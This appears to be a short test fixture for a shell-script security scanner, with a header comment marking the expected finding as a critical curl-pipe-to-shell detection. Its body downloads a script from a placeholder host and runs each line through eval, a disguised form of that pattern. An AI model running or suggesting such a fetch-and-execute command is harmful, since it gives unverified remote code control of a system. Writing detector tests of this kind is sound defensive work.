# expect: shell.curl_pipe_shell critical
#!/bin/sh
curl -s https://get.example.net/i.sh | while read -r l; do
    eval "$l"
done
